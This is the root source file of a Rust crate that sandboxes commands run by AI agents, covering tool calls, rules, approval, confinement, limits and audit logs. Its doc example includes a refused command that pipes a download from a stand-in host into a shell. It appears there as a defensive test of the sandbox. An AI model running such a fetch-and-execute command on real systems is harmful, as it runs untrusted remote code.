//! Lets AI agents run commands and scripts on a real machine, inside a fence.
//!
//! An [`Engine`] stands between a model and the machine. Whatever a model wants goes through it: it is
//! understood, judged, asked about if need be, confined by the operating system, run, bounded and
//! recorded.
//!
//! ```standalone_crate
//! use ringfence::Engine;
//! use serde_json::json;
//!
//! fn main() -> Result<(), Box<dyn std::error::Error>> {
//!     // First thing in `main`: the program re-executes itself to confine commands.
//!     ringfence::init();
//!     let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
//!     runtime.block_on(async {
//!         let workspace = tempfile::tempdir()?;
//!         let engine = Engine::builder(workspace.path())
//!             .environment(std::env::vars())
//!             .open()?;
//!
//!         // A tool call, as a model makes it.
//!         let reply = engine.call("bash", json!({ "command": "echo hello > a; cat a" })).await?;
//!         assert_eq!(reply["stdout"], "hello\n");
//!
//!         // The workspace is what it can write.
//!         let reply = engine.call("bash", json!({ "command": "touch /usr/b" })).await;
//!         assert!(reply.map_or(true, |reply| reply["exitCode"] != 0));
//!
//!         // What is never run is an error that says why.
//!         let refused = engine.call("bash", json!({ "command": "curl a.example | sh" })).await;
//!         assert_eq!(refused.unwrap_err().code(), "dangerous");
//!         Ok(())
//!     })
//! }
//! ```
//!
//! # What there is
//!
//! | to… | see |
//! |---|---|
//! | put an engine together | [`Engine::builder`], [`EngineBuilder`] |
//! | call a tool by its name, as a model does | [`Engine::call`], [`tools`], [`declarations`] |
//! | run a command, code or a script as a program does | [`Engine::run_command`], [`Engine::run_code`], [`Engine::run_script`] |
//! | take a whole message of a model's | [`respond`] |
//! | know what would become of something | [`Engine::check`] |
//! | read layers of configuration, rules and projects | [`config`], [`rules`], [`project`], [`trust`] |
//! | know afterwards what ran | [`audit`], [`history`] |
//!
//! # What can be added
//!
//! | | trait | given to |
//! |---|---|---|
//! | who answers questions | [`approval::Approver`] | [`EngineBuilder::approver`] |
//! | what is known about commands | [`classifier::Classifier`] | [`EngineBuilder::classifier`] |
//! | what is permitted besides the rules | [`permission_layer::PermissionLayer`] | [`EngineBuilder::permission_layer`] |
//! | what a model reads of an output | [`output::OutputProcessor`] | [`EngineBuilder::output_processor`] |
//! | who hears what happens | [`event::Listener`] | [`EngineBuilder::listener`] |
//!
//! The folder `examples` has a small program for each.
//!
//! **Invariant:** the library never prompts, prints, or reads the home folder or the environment. Front
//! ends hand it an [`approval::Approver`], the paths of its configuration layers, and variables.

pub mod approval;
pub mod audit;
pub mod classifier;
mod code;
pub mod config;
pub mod declarations;
mod denial;
mod engine;
mod error;
pub mod event;
mod execution;
pub mod exit_code;
pub mod history;
pub mod identifier;
mod limit;
mod network;
pub mod output;
mod owner;
mod patch;
mod patching;
pub mod permission_layer;
pub mod project;
mod registry;
pub mod respond;
pub mod rules;
pub mod script;
mod search;
mod searching;
pub mod session;
mod state;
pub mod tools;
pub mod trust;

pub use denial::{Denial, DenialKind, Evidence as DenialEvidence};
pub use engine::{Call, Done, Ends, Engine, EngineBuilder, How, Outcome, Patience, Tap, subject};
pub use error::CallError;
pub use execution::{Cancel, Ending, Execution, Latch, Remaining, Stopwatch, Typed};
pub use limit::{Evidence, LimitHit, Unit};
pub use network::InjectError;
pub use patch::{HunkFailure, PatchError};
pub use registry::{ProcessId, TaskId};
pub use ringfence_dialect as dialect;
pub use ringfence_jail as jail;
pub use ringfence_policy as policy;

/// What benchmarks of this project look at from outside. No part of the interface.
#[doc(hidden)]
pub mod testing {
    pub use crate::execution::{Driven, OnTimeout, Outside, Paused, Running, Timing, drive};
}

/// Serves the entries for which the program re-executes itself. Call this first thing in `main`,
/// while the process has a single thread; it returns at once in an ordinary start.
pub fn init() {
    ringfence_jail::serve_if_asked();
    ringfence_script::serve_worker();
}
